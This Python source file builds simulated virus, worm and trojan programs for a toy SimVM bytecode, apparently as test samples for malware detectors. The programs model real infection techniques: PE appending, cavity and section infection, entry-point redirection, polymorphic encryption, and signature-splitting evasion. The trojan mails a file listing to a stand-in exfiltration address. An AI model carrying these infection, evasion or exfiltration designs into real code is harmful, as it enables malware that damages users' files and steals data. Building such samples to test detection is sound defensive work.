"""SimVM programs of every binary family, as assembly text (documented in docs/simulated-malware.md).

Conventions shared by the infecting families:
- the first instruction loads the family's text mark into b15 (``BSET b15, "Sim.X.A"``);
- b14 holds the key that encodes the saved header (a 16-byte family constant, or the per-copy
  key of the polymorphic family);
- a host is skipped when it is not a PE or already carries any SimVM program (the magic is
  assembled at run time from two halves so the code never contains it whole);
- the register and buffer numbers written here are renamed per family (see ``renamed``).
- the infection record right after the virus body is ``[original length u32][original entry
  point u32][first 1024 bytes of the original file XOR b14]``.
"""

from __future__ import annotations

import functools
import hashlib
import random
import re

from simworld.bytecode import assemble

EXE_PATTERN = "c:/*.exe"
MAX_HOST = 4 * 2**20


def _search(low: int = 0, high: int = MAX_HOST) -> str:
    return f"""
    BSET b1, "{EXE_PATTERN}"
    MOVI r1, {low}
    MOVI r2, {high}
    FIND b1, r1, r2
    BSET b4, "SimV"
    BSET b6, hex:4d1a0100
    BCAT b4, b6            ; b4 = the SimVM magic, never stored whole in the code
"""


_NEXT_HOST = """
loop:
    NEXT b2, r3            ; b2 = next host path, r3 = 0 when none is left
    JZ r3, done
    READ b3, b2
    PEVALID r4, b3
    JZ r4, loop
    BHAS r4, b3, b4        ; already carries a program: skip
    JNZ r4, loop
"""

_RECORD = """
record:                    ; b5 = [length][entry point][header XOR b14]
    BLEN r5, b3
    PEGETEP r6, b3
    MOVI r7, 8
    BZERO b5, r7
    MOVI r7, 0
    BPUT32 b5, r7, r5
    MOVI r7, 4
    BPUT32 b5, r7, r6
    MOVI r7, 0
    MOVI r8, 1024
    BSLICE b6, b3, r7, r8
    BXOR b6, b14
    BCAT b5, b6
    RET
"""

_BODY = """
    BSET b7, hex:c3        ; the new entry point: ret
    BSELF b8
    BCAT b7, b8
    BCAT b7, b5
"""


def _head(mark: str, key: str) -> str:
    return f'    BSET b15, "{mark}"\n    BSET b14, "{key}"\n'


def appender(mark: str, key: str, low: int = 0, high: int = MAX_HOST) -> str:
    """Extend the last section with ret + body + record; entry point -> the ret."""
    return (
        _head(mark, key)
        + _search(low, high)
        + _NEXT_HOST
        + """
    CALL record"""
        + _BODY
        + """
    PEEXTEND b3, b7, r9
    PESETEP b3, r9
    WRITE b2, b3
    JMP loop
done:
    HALT
"""
        + _RECORD
    )


def section_adder(mark: str, key: str, section: str, date_day: int | None = None) -> str:
    """Add a new section holding ret + body + record; optionally only on day ``date_day``."""
    trigger = ""
    if date_day is not None:
        trigger = f"""
    DATE r1                ; yyyymmdd
    MOVI r2, 100
    MOD r3, r1, r2
    MOVI r2, {date_day}
    EQ r3, r3, r2
    JZ r3, done            ; not the day: do nothing
"""
    return (
        _head(mark, key)
        + trigger
        + _search()
        + _NEXT_HOST
        + """
    CALL record"""
        + _BODY
        + f"""
    BSET b9, "{section}"
    PEADDSECT b3, b9, b7, r9
    PESETEP b3, r9
    WRITE b2, b3
    JMP loop
done:
    HALT
"""
        + _RECORD
    )


def cavity(mark: str) -> str:
    """Write ret + body + original entry point into zero slack of the code section."""
    return (
        f'    BSET b15, "{mark}"\n'
        + _search()
        + _NEXT_HOST
        + """
    PEGETEP r6, b3
    MOVI r7, 4
    BZERO b5, r7
    MOVI r7, 0
    BPUT32 b5, r7, r6      ; record = original entry point only
"""
        + _BODY
        + """
    BLEN r8, b7
    PECAVE r9, b3, r8
    JZ r9, loop            ; no cavity big enough: leave the host alone
    BPOKE b3, r9, b7
    PEOFF2RVA r10, b3, r9
    PESETEP b3, r10
    WRITE b2, b3
    JMP loop
done:
    HALT
"""
    )


def polymorphic(mark: str) -> str:
    """A constant decryptor, an 8-byte per-copy key, then the encrypted rest of the program."""
    return (
        """
    MOVI r1, body
    MOVI r2, end-body
    MOVI r3, key
    MOVI r4, 8
    DECRYPT r1, r2, r3, r4
    JMP body
key:
    .zero 8
body:
"""
        + f'    BSET b15, "{mark}"\n'
        + _search()
        + _NEXT_HOST
        + """
    NEWKEY b14, 8          ; this copy's key
    CALL record
    CALL mutate
    BSET b7, hex:c3
    BCAT b7, b8
    BCAT b7, b5
    PEEXTEND b3, b7, r9
    PESETEP b3, r9
    WRITE b2, b3
    JMP loop
done:
    HALT
mutate:                    ; b8 = a new carrier: decryptor + b14 + body XOR b14
    BCODE b10
    MOVI r1, 0
    MOVI r2, key
    BSLICE b11, b10, r1, r2
    BCAT b11, b14
    MOVI r1, body
    MOVI r2, end-body
    BSLICE b12, b10, r1, r2
    BXOR b12, b14
    BCAT b11, b12
    PACK b8, b11
    RET
"""
        + _RECORD
        + "end:\n"
    )


def _own_image() -> str:
    return """
    BFILE b10
    PEEND r10, b10
    MOVI r11, 0
    BSLICE b11, b10, r11, r10   ; b11 = this virus's own PE image, without any host after it
"""


def prepender(mark: str) -> str:
    """Put the virus's own PE image in front of the host (the host stays whole after it)."""
    return (
        f'    BSET b15, "{mark}"\n'
        + _own_image()
        + _search()
        + _NEXT_HOST
        + """
    BMOV b12, b11
    BCAT b12, b3
    WRITE b2, b12
    JMP loop
done:
    HALT
"""
    )


def overwriter(mark: str) -> str:
    """Write the virus's own image over the start of the host: the host is destroyed."""
    return (
        f'    BSET b15, "{mark}"\n'
        + _own_image()
        + _search()
        + _NEXT_HOST
        + """
    BLEN r5, b3
    BLEN r6, b11
    BMOV b12, b11
    LT r7, r6, r5
    JZ r7, write           ; host no longer than the virus: it becomes the virus
    SUB r8, r5, r6
    BSLICE b13, b3, r6, r8
    BCAT b12, b13
write:
    WRITE b2, b12
    JMP loop
done:
    HALT
"""
    )


def resident(mark: str, key: str) -> str:
    """Stay resident; infect (appender style) each PE that is later opened or executed."""
    return (
        _head(mark, key)
        + """
    BSET b4, "SimV"
    BSET b6, hex:4d1a0100
    BCAT b4, b6
    HOOK 3, onevent        ; 1 = execute, 2 = open
    HALT
onevent:                   ; b0 = the path of the file the event is about
    BMOV b2, b0
    READ b3, b2
    PEVALID r4, b3
    JZ r4, done
    BHAS r4, b3, b4
    JNZ r4, done
    CALL record"""
        + _BODY
        + """
    PEEXTEND b3, b7, r9
    PESETEP b3, r9
    WRITE b2, b3
done:
    HALT
"""
        + _RECORD
    )


def worm(mark: str) -> str:
    """Copies itself to two new places and mails itself; touches no existing file."""
    return f"""
    BSET b15, "{mark}"
    BFILE b1
    BSET b2, "C:/Users/Public/Downloads/holiday_photos.exe"
    DROP b2, b1
    BSET b2, "C:/Windows/Temp/netupdate.exe"
    DROP b2, b1
    BSET b3, "all-contacts@address-book.invalid"
    MAIL b3, b1
    HALT
"""


def trojan(mark: str) -> str:
    """Lists every file, mails the list away and drops a fake keystroke log; infects nothing."""
    return f"""
    BSET b15, "{mark}"
    BSET b1, "c:/*"
    MOVI r1, 0
    MOVI r2, {MAX_HOST}
    FIND b1, r1, r2
    BSET b5, "files:"
    BSET b6, hex:0a
loop:
    NEXT b2, r3
    JZ r3, send
    BCAT b5, b6
    BCAT b5, b2
    JMP loop
send:
    BSET b3, "collector@exfil.invalid"
    MAIL b3, b5
    BSET b2, "C:/Windows/Temp/kbd_capture.log"
    BSET b7, "simulated keystroke capture (no real data)"
    DROP b2, b7
    HALT
"""


def clean_counter() -> str:
    """A harmless utility: counts to 100, reads its own size, prints a line."""
    return """
    BSET b15, "SimTools.Counter"
    MOVI r1, 0
    MOVI r2, 100
    MOVI r3, 1
count:
    ADD r1, r1, r3
    LT r4, r1, r2
    JNZ r4, count
    SELFPATH b1
    FSIZE r5, b1
    BSET b2, "counted to 100"
    OUT b2
    HALT
"""


def fp_bait() -> str:
    """A clean directory lister that starts exactly like the over-broad heuristic expects."""
    return f"""
    BSET b1, "{EXE_PATTERN}"
    MOVI r1, 0
    MOVI r2, {MAX_HOST}
    FIND b1, r1, r2
    BSET b15, "SimTools.DirList"
loop:
    NEXT b2, r3
    JZ r3, done
    OUT b2
    JMP loop
done:
    HALT
"""


def _varied(source: str, family: str) -> str:
    """Per-family spelling of the shared pieces: the letter case of the host pattern (FIND
    ignores case) and where the magic is split in two (it is joined again at run time)."""
    digest = hashlib.sha256(family.encode()).digest()
    pattern = "".join(
        c.upper() if c.isalpha() and digest[i] & 1 else c for i, c in enumerate(EXE_PATTERN)
    )
    split = 1 + digest[-1] % 7
    magic = b"SimVM\x1a\x01\x00"
    halves = f"BSET b4, hex:{magic[:split].hex()}\n    BSET b6, hex:{magic[split:].hex()}"
    source = source.replace(f'"{EXE_PATTERN}"', f'"{pattern}"')
    return source.replace('BSET b4, "SimV"\n    BSET b6, hex:4d1a0100', halves)


def renamed(source: str, family: str) -> str:
    """The same program with registers r1..r15 and buffers b1..b13 renamed by a fixed,
    family-specific permutation (r0, b0, b14 and b15 keep their roles). Families built from the
    same pieces thus share no long byte runs, as different real viruses would not."""
    rng = random.Random(f"registers:{family}")
    registers = list(range(1, 16))
    buffers = list(range(1, 14))
    rng.shuffle(registers)
    rng.shuffle(buffers)
    mapping = {f"r{i}": f"r{n}" for i, n in zip(range(1, 16), registers, strict=True)}
    mapping |= {f"b{i}": f"b{n}" for i, n in zip(range(1, 14), buffers, strict=True)}
    parts = source.split('"')
    for index in range(0, len(parts), 2):  # outside string literals only
        parts[index] = re.sub(
            r"\b[rb]\d+\b", lambda m: mapping.get(m.group(0), m.group(0)), parts[index]
        )
    return '"'.join(parts)


_VIRAL: dict[str, str] = {
    "appender_ep": appender("Sim.Appender.A", "AppenderKey.0001"),
    "prepender": prepender("Sim.Prepender.A"),
    "section_adder": section_adder("Sim.SectAdd.A", "SectAddKey.00002", ".svmx"),
    "cavity": cavity("Sim.Cavity.A"),
    "polymorphic": polymorphic("Sim.Poly.A"),
    "overwriter": overwriter("Sim.Overwrite.A"),
    "date_trigger": section_adder("Sim.Friday13.A", "Friday13Key.0003", ".d13", date_day=13),
    "size_trigger": appender("Sim.SizeTrigger.A", "SizeTrigKey.0004", low=16384, high=65536),
    "resident": resident("Sim.Resident.A", "ResidentKey.0005"),
    "worm": worm("Sim.Worm.A"),
    "trojan": trojan("Sim.Trojan.A"),
    "known_oldie": appender("Sim.Oldie.A", "OldieKey.0000001"),
    "known_jolt": prepender("Sim.Jolt.A"),
}

PROGRAMS: dict[str, str] = {
    **{name: renamed(_varied(source, name), name) for name, source in _VIRAL.items()},
    "clean_simvm": clean_counter(),
    "fp_bait": fp_bait(),  # not renamed: the baseline heuristic expects its first instruction as written
}


@functools.cache
def program(name: str) -> bytes:
    """The assembled bytecode of a family's program."""
    return assemble(PROGRAMS[name])
